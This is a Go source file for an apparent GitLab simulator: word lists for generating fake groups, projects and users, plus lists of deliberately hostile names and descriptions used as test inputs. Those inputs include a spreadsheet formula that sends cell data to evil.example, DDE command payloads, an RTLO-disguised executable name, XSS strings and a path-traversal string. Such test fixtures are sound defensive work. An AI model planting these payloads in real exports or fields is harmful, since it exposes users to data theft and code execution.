package gitlabsim

import "strings"

// Words that a company's GitLab is made of.
var (
	groupWords = []string{"platform", "payments", "mobile", "infrastructure", "data", "security", "web", "identity",
		"logistics", "analytics", "billing", "discovery", "machine-learning", "design-system", "quality", "research",
		"devops", "commerce", "support", "finance", "integrations", "network", "release", "sandbox", "legacy",
		"marketing", "partners", "iot", "observability", "archive", "compliance", "training"}
	projectWords = []string{"checkout", "ledger", "gateway", "orders", "inventory", "catalog", "invoice", "customer",
		"session", "profile", "notification", "shipping", "pricing", "fraud", "report", "metrics", "audit", "config",
		"deploy", "cluster", "backup", "image", "mail", "chat", "geo", "tax", "loyalty", "cart", "returns", "warehouse",
		"sensor", "firmware", "terraform", "ansible", "helm", "docs", "website", "design", "ios", "android"}
	projectKinds = []string{"service", "api", "ui", "worker", "library", "sdk", "cli", "infra", "tests", "tools",
		"proxy", "jobs", "schema", "charts", "images", "scripts", "poc", "mirror", "templates", "dashboard"}
	firstNames = []string{"anna", "ben", "carla", "daniel", "elena", "farid", "grace", "hugo", "ines", "jonas", "karin",
		"liam", "maria", "noah", "olga", "paul", "qing", "rosa", "samir", "tara", "ulrich", "vera", "wei", "ximena",
		"yusuf", "zoe", "aiko", "bruno", "chloe", "dmitri", "emeka", "fiona", "george", "hana", "ivan", "julia"}
	lastNames = []string{"adler", "bauer", "costa", "dubois", "eriksen", "fischer", "garcia", "huber", "ivanova", "jansen",
		"kowalski", "lindgren", "moreau", "nguyen", "okafor", "petrov", "quinn", "rossi", "schmidt", "tanaka", "ueda",
		"vargas", "weber", "xu", "yilmaz", "zimmer", "ahmed", "becker", "chen", "diaz", "evans", "fontana", "gruber",
		"haas", "ito", "kim", "larsen", "meyer", "novak", "olsen"}
	topicWords = []string{"go", "java", "kubernetes", "terraform", "android", "ios", "python", "rust", "frontend",
		"backend", "legacy", "pci", "gdpr", "machine-learning", "documentation"}
)

// hostileNames are display names that break careless readers. Those that
// today's validation of project names would refuse stand for projects created
// before GitLab had one; GitLab never rewrote them.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Checkout")`,
	"+1-800-EVIL",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	`-2+3+cmd|' /C calc'!A0`,
	"invoice\u202egpj.exe",
	"\u200fשירות תשלומים",
	"🚀 launch 🧨 pad",
	"<script>alert(1)</script>",
	`"quoted", 'quoted'; and; separated`,
	strings.Repeat("long name ", 25) + "12345", // 255 characters, GitLab's limit
	"../../etc/passwd",
	"tab\there",
}

// hostileTexts stand where GitLab takes any text, such as descriptions.
var hostileTexts = []string{
	"=1+1",
	"first line\nsecond line\r\nthird",
	"bell \a and escape \x1b[31mred\x1b[0m",
	"@here <img src=x onerror=alert(1)>",
	"NUL-like \u2400, zero\u200bwidth, \u202eoverride",
	"| pipe | table |\n|---|---|",
	strings.Repeat("a very long description ", 80),
}

// title makes a display name of a path: "machine-learning" to "Machine Learning".
func title(path string) string {
	words := strings.Split(path, "-")
	for i, w := range words {
		if w != "" {
			words[i] = strings.ToUpper(w[:1]) + w[1:]
		}
	}
	return strings.Join(words, " ")
}
